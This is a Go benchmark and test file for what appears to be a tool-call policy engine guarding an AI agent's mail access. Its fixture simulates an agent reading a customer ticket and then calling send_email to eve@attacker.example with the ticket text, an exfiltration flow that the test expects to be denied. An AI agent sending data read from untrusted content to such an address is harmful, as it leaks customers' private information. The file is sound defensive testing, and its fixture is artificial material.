package decide

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"path/filepath"
	"strings"
	"testing"

	"github.com/sallyport-dev/sallyport/audit"
)

// mixed is one round of two sessions with five decisions: a read whose result is observed,
// a refusal, a question and its answer with its result, a call that is allowed, with its
// result.
const perRound = 5

func mixed(b *bytes.Buffer, round int) {
	const text = "Dear team, the parcel for order 4711 has not come. Please tell me where it is: I wrote to you last week, " +
		"and the day before. My number is the same as always, and the rest of it stands in the first mail. "
	const answer = "Hello Ann, a customer asks again about a parcel that we sent on Monday. Could you look where it has got to, " +
		"and write to them when you know more? They have been waiting for a while by now. Thanks, and have a good day. "
	s := []string{"s", "t"}[round%2]
	id := round * 4
	line := func(format string, args ...any) { fmt.Fprintf(b, format+"\n", args...) }
	line(`{"op":"call","session":%q,"id":%d,"upstream":"mail","tool":"read_ticket","arguments":{"id":"T-%d"}}`, s, id, round)
	line(`{"op":"result","session":%q,"id":%d,"result":{"content":[{"type":"text","text":"%s Ticket %d, eve%d@attacker.example"}]}}`, s, id, text, round, round%100)
	line(`{"op":"call","session":%q,"id":%d,"upstream":"mail","tool":"send_email","arguments":{"to":"eve%d@attacker.example","body":%q}}`, s, id+1, round%100, text)
	line(`{"op":"call","session":%q,"id":%d,"upstream":"mail","tool":"send_email","arguments":{"to":"bob%d@partner.example","body":%q}}`, s, id+2, round, text)
	line(`{"op":"answer","session":%q,"id":%d,"approve":true}`, s, id+2)
	line(`{"op":"result","session":%q,"id":%d,"result":{"content":[{"type":"text","text":"sent"}]}}`, s, id+2)
	line(`{"op":"call","session":%q,"id":%d,"upstream":"mail","tool":"send_email","arguments":{"to":"ann@corp.example","body":%q}}`, s, id+3, answer)
	line(`{"op":"result","session":%q,"id":%d,"result":{"content":[{"type":"text","text":"sent"}]}}`, s, id+3)
}

// A stream of the mix, and the same with every verdict recorded.
func BenchmarkStream(b *testing.B) {
	for _, recorded := range []bool{false, true} {
		name := "mix"
		if recorded {
			name = "recorded"
		}
		b.Run(name, func(b *testing.B) {
			opt := options(b, mailConfig)
			if recorded {
				log, err := audit.Open(filepath.Join(b.TempDir(), "audit.jsonl"), audit.Options{})
				if err != nil {
					b.Fatal(err)
				}
				defer log.Close()
				opt.Audit = log
			}
			var in bytes.Buffer
			in.WriteString(strings.Join([]string{listed, opened, `{"op":"session","session":"t"}`, ""}, "\n"))
			for round := range b.N {
				mixed(&in, round)
			}
			opt.In, opt.Out = &in, io.Discard
			b.ReportAllocs()
			b.ResetTimer()
			if err := Run(context.Background(), opt); err != nil {
				b.Fatal(err)
			}
			b.ReportMetric(float64(perRound*b.N)/b.Elapsed().Seconds(), "decisions/s")
		})
	}
}

// The mix is what it says.
func TestMix(t *testing.T) {
	var in bytes.Buffer
	mixed(&in, 0)
	mixed(&in, 1)
	out := run(t, options(t, mailConfig), listed, opened, `{"op":"session","session":"t"}`, in.String())
	var got []string
	for _, line := range out {
		got = append(got, short(t, line))
	}
	if want := strings.Repeat("allow,deny flow,ask flow,allow,allow,", 2); strings.Join(got, ",")+"," != want {
		t.Errorf("got %q", got)
	}
}
